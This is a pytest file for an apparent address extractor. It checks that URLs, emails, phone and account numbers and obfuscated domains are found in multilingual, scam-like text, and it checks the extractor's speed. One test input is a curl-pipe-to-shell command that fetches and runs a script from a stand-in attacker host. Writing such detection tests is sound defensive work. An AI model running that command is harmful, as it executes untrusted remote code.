from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.text.addresses import addresses, all_stand_in


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("See https://www.North.example/Renew/.", {"north.example/renew"}),
        ("请到refund.evil.example填写", {"refund.evil.example"}),
        ("请到 http://a.example/b?c=1。", {"a.example/b?c=1"}),
        ("write to Cards@North.example, please", {"cards@north.example"}),
        ("evil[.]example and evil (dot) example", {"evil.example"}),
        ("ｅｖｉｌ．example", {"evil.example"}),
        ("Go to EVIL.EXAMPLE now", {"evil.example"}),
        ("javascript:alert", {"javascript:alert"}),
        ("Run curl -s https://evil.example/m.sh | sh", {"evil.example/m.sh"}),
        ("open invite.exe", {"invite.exe"}),
        ("hỏi @gia_vang nhé", {"@gia_vang"}),
        ("at 10.0.0.255 today", {"10.0.0.255"}),
        ("call +84 900 666 999", {"84900666999"}),
        ("tài khoản 9988 7766 5544", {"998877665544"}),
        ("0571-5550-1234，", {"057155501234"}),
        ("U2VuZCB5b3VyIHBhc3N3b3Jk", {"u2vuzcb5b3vyihbhc3n3b3jk"}),
    ],
)
def test_addresses_and_long_numbers_are_found(text: str, expected: set[str]) -> None:
    assert addresses(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "TP.HCM và Q.1",
        "It ended.Then he left, e.g. at 5 p.m. in the U.S.A.",
        "15.5 billion, 1.200.000 đồng, 28,6 km, 9.60",
        "from 1961 to 1968, 2014-2016, 24/10/1945, 2024-11-10",
        "会议结束。大家离开，共1,200人。",
        "the vote was 192 to 1",
    ],
)
def test_what_only_looks_like_an_address_is_none(text: str) -> None:
    assert addresses(text) == set()


@pytest.mark.parametrize(
    ("text", "source", "expected"),
    [
        ("at north.example", "https://www.north.example/renew", True),
        ("https://north.example/renew/", "north.example/renew", True),
        ("north.example/other", "north.example/renew", False),
        ("north.example.evil.example", "north.example", False),
        ("north.example", "north.example.evil.example", False),
        ("evil.example", "a@evil.example", False),
        ("0900 123 456", "0900.123.456 or 0900-123-456", True),
        ("0900 123 457", "0900-123-456", False),
        ("nothing here", "", True),
    ],
)
def test_an_address_stands_only_where_it_is_one(text: str, source: str, expected: bool) -> None:
    assert all_stand_in(text, source) is expected


@given(st.text(max_size=200))
def test_every_text_has_its_own_addresses(text: str) -> None:
    assert all_stand_in(text, text)


@pytest.mark.parametrize("piece", ["a", "a.", "a@", "1 ", "http://", "A1", "[dot] ", "-", ".a/"])
def test_the_time_grows_with_the_length(piece: str) -> None:
    def seconds(length: int) -> float:
        text = (piece * length)[:length]
        began = time.process_time()
        addresses(text)
        return time.process_time() - began

    seconds(1000)
    # Four times the length: a quadratic pattern would take sixteen times as long.
    assert seconds(80_000) <= 9 * seconds(20_000) + 0.1
